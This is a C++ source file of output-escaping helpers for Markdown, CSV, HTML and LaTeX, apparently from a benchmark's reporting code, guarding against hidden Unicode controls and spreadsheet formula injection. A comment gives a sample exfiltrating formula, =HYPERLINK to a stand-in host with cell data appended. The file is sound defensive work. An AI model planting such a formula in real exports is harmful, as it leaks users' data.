#include "util/markup_escape.hpp"

#include <algorithm>
#include <cstdio>
#include <string_view>

#include "util/utf8.hpp"

namespace convbench {

namespace {

// The code point of a well-formed 2- or 3-byte UTF-8 sequence (4-byte ones are never escaped).
char32_t code_point(std::string_view sequence) {
  const auto b = [&](size_t k) { return static_cast<char32_t>(static_cast<unsigned char>(sequence[k])); };
  if (sequence.size() == 2) return ((b(0) & 0x1f) << 6) | (b(1) & 0x3f);
  if (sequence.size() == 3) return ((b(0) & 0x0f) << 12) | ((b(1) & 0x3f) << 6) | (b(2) & 0x3f);
  return 0;
}

// Code points that are valid text yet change what the reader sees: C1 controls (U+0085 ends a
// line, U+009B starts an escape sequence on some terminals), the line and paragraph separators,
// and the bidirectional controls, with which a name can show its characters in another order
// than they are stored ("Trojan Source", CVE-2021-42574): U+061C, U+200E, U+200F,
// U+202A..U+202E, U+2066..U+2069.
bool hidden_control(char32_t cp) {
  return (cp >= 0x80 && cp <= 0x9f) || cp == 0x2028 || cp == 0x2029 || cp == 0x061c || cp == 0x200e || cp == 0x200f ||
         (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069);
}

}  // namespace

std::string printable(const std::string& text) {
  std::string out;
  out.reserve(text.size());
  for (size_t i = 0; i < text.size(); ++i) {
    const auto c = static_cast<unsigned char>(text[i]);
    if (c >= 0x80) {
      // A well-formed UTF-8 sequence is kept whole, unless it is one of the hidden controls
      // (written \uNNNN); a stray byte is written as \xNN.
      const size_t length = c >= 0xf0 ? 4 : c >= 0xe0 ? 3 : c >= 0xc0 ? 2 : 1;
      const std::string_view sequence(text.data() + i, std::min(length, text.size() - i));
      if (length > 1 && sequence.size() == length && !find_invalid_utf8(sequence)) {
        if (const char32_t cp = code_point(sequence); hidden_control(cp)) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x", static_cast<unsigned>(cp));
          out += buf;
        } else {
          out.append(sequence);
        }
        i += length - 1;
        continue;
      }
    } else if (c >= 0x20 && c != 0x7f) {
      out += text[i];
      continue;
    }
    switch (c) {
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default: {
        char buf[8];
        std::snprintf(buf, sizeof buf, "\\x%02x", c);
        out += buf;
      }
    }
  }
  return out;
}

std::string markdown_escape(const std::string& text) {
  std::string out;
  for (char c : printable(text)) {
    if (c == '|') out += '\\';
    out += c;
  }
  return out;
}

namespace {

// A number as the CSV's numeric cells and JSON write one: -12, 0.5, -1.5e-05.
bool is_number(std::string_view s) {
  size_t i = 0;
  if (i < s.size() && s[i] == '-') ++i;
  size_t digits = 0;
  while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i, ++digits;
  if (i < s.size() && s[i] == '.') {
    ++i;
    while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i, ++digits;
  }
  if (digits == 0) return false;
  if (i < s.size() && (s[i] == 'e' || s[i] == 'E')) {
    ++i;
    if (i < s.size() && (s[i] == '+' || s[i] == '-')) ++i;
    const size_t start = i;
    while (i < s.size() && s[i] >= '0' && s[i] <= '9') ++i;
    if (i == start) return false;
  }
  return i == s.size();
}

}  // namespace

std::string csv_escape(const std::string& text) {
  std::string s = printable(text);
  // A spreadsheet runs a cell that starts with = + - @ (or tab, carriage return) as a formula: a
  // block named =HYPERLINK("http://x/?"&A1) would send the sheet's data away when the CSV is
  // opened. The OWASP rule: such a text cell gets a leading ' (shown by no spreadsheet, read back
  // by pandas as part of the text); a number, negative ones too, stays a number.
  if (!s.empty() && std::string_view("=+-@\t\r").find(s.front()) != std::string_view::npos && !is_number(s))
    s.insert(s.begin(), '\'');
  const bool quote =
      s.find_first_of(",\"") != std::string::npos || (!s.empty() && (s.front() == ' ' || s.back() == ' '));
  if (!quote) return s;
  std::string out = "\"";
  for (char c : s) out += c == '"' ? std::string("\"\"") : std::string(1, c);
  return out + "\"";
}

std::string html_escape(const std::string& text) {
  const std::string s = printable(text);
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    switch (c) {
      case '&': out += "&amp;"; break;
      case '<': out += "&lt;"; break;
      case '>': out += "&gt;"; break;
      case '"': out += "&quot;"; break;
      case '\'': out += "&#39;"; break;
      default: out += c;
    }
  }
  return out;
}

std::string html_escape_lines(const std::string& text) {
  std::string out;
  size_t start = 0;
  while (start <= text.size()) {
    const size_t end = text.find('\n', start);
    out += html_escape(text.substr(start, end == std::string::npos ? std::string::npos : end - start));
    if (end == std::string::npos) break;
    out += '\n';
    start = end + 1;
  }
  return out;
}

std::string latex_escape(const std::string& text) {
  const std::string s = printable(text);
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    switch (c) {
      case '\\': out += "\\textbackslash{}"; break;
      case '&':
      case '%':
      case '$':
      case '#':
      case '_':
      case '{':
      case '}':
        out += '\\';
        out += c;
        break;
      case '~': out += "\\textasciitilde{}"; break;
      case '^': out += "\\textasciicircum{}"; break;
      default: out += c;
    }
  }
  return out;
}

}  // namespace convbench
